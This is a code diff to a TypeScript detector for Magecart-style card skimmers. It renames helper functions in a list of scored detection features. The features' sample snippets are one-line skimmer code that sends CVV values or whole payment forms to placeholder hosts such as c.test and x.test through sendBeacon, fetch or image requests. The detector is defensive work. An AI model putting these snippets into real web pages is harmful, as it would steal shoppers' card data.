@@ -8,15 +8,15 @@ import {
   allOf,
   anyOf,
   calls,
-  elsewhere,
   flow,
-  forgetsTo,
   onlyPasswordsMasked,
+  otherHosts,
   paths,
   properties,
   sends,
-  sendsAndForgets,
+  sendsIgnoringResponse,
   sendsTo,
+  sendsToIgnoringResponse,
   text,
   unmasked,
 } from './finders.ts';
@@ -36,14 +36,14 @@ const matchers: ReadonlySet<string> = new Set([
 ]);
 const addressPath = /^(?:document\.)?(?:location(?:\.(?:href|pathname|hash|search))?|URL)$/;
 /** A comparison of the address is short. */
-const MOST_NODES = 40;
+const MAX_NODES = 40;
 
 /** `location.href.indexOf('checkout')` and the like. */
 function checkoutChecks({ reading, methods }: Facts): number[] {
   const { tree, values } = reading;
   const isCheck = (number: number): boolean => {
     const last = tree.lasts[number] ?? number;
-    if (last - number > MOST_NODES) return false;
+    if (last - number > MAX_NODES) return false;
     const nodes = tree.nodes.slice(number, last + 1);
     return (
       nodes.some((node) => isName(node) && addressPath.test(withoutMethods(values.path(node)))) &&
@@ -133,7 +133,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent-elsewhere',
     what: 'Card data goes to another host, or to one that is not known',
     points: 25,
-    find: sendsTo(elsewhere, taint.cardName, anyField),
+    find: sendsTo(otherHosts, taint.cardName, anyField),
     samples: {
       matching: [
         `fetch('//c.test/pay', { body: document.querySelector('#cvv').value }).then(done);`,
@@ -145,7 +145,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent-unanswered',
     what: 'Card data is sent and nobody waits for an answer, as a payment would',
     points: 50,
-    find: sendsAndForgets(taint.cardName, anyField),
+    find: sendsIgnoringResponse(taint.cardName, anyField),
     samples: {
       matching: [
         `navigator.sendBeacon('https://c.test/', document.getElementById('cvv').value);`,
@@ -172,7 +172,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-unanswered',
     what: 'Sends all fields of the page or a form, and nobody waits for an answer',
     points: 40,
-    find: sendsAndForgets(taint.allFields, taint.field),
+    find: sendsIgnoringResponse(taint.allFields, taint.field),
     samples: {
       matching: [
         `const d = {}; document.querySelectorAll('input,select').forEach((i) => { d[i.name] = i.value; }); navigator.sendBeacon('//c.test', JSON.stringify(d));`,
@@ -186,7 +186,10 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-elsewhere',
     what: 'Sends all fields to another host without waiting for an answer, and leaves none out',
     points: 65,
-    find: unmasked('any', forgetsTo(['foreign', 'hidden'], taint.allFields, taint.field)),
+    find: unmasked(
+      'any',
+      sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
+    ),
     samples: {
       matching: [
         `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
@@ -205,7 +208,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-somewhere',
     what: 'Sends all fields to a host that is not known without waiting for an answer',
     points: 25,
-    find: unmasked('any', forgetsTo(['unknown'], taint.allFields, taint.field)),
+    find: unmasked('any', sendsToIgnoringResponse(['unknown'], taint.allFields, taint.field)),
     samples: {
       matching: [`document.onchange = (e) => navigator.sendBeacon(u, e.target.value);`],
       other: [`document.onchange = (e) => navigator.sendBeacon('/own', e.target.value);`],
@@ -216,7 +219,9 @@ export const magecartFeatures: readonly Feature[] = [
     what: 'Sends all fields of payment pages to another host, and leaves out passwords only',
     points: 40,
     find: allOf(
-      onlyPasswordsMasked(forgetsTo(['foreign', 'hidden'], taint.allFields, taint.field)),
+      onlyPasswordsMasked(
+        sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
+      ),
       anyOf(checkoutChecks, paymentSelectors),
     ),
     samples: {
@@ -286,7 +291,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'payment-form-copied',
     what: 'Picks the payment form of a page and sends fields without waiting for an answer',
     points: 30,
-    find: allOf(sendsAndForgets(taint.allFields, taint.field), paymentSelectors),
+    find: allOf(sendsIgnoringResponse(taint.allFields, taint.field), paymentSelectors),
     samples: {
       matching: [
         `$('#co-payment-form').on('submit', function () { $('<img>').attr('src', '//x.test/?' + $(this).serialize()); });`,
@@ -351,7 +356,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'made-form-sent',
     what: 'Puts a form with card fields into the page, and sends fields elsewhere without waiting for an answer',
     points: 45,
-    find: allOf(madeCardForm, forgetsTo(elsewhere, taint.field)),
+    find: allOf(madeCardForm, sendsToIgnoringResponse(otherHosts, taint.field)),
     samples: {
       matching: [
         `el.innerHTML = '<input id="a" autocomplete="cc-number">'; go.onclick = () => { navigator.sendBeacon('//x.test', document.querySelector('#a').value); };`,
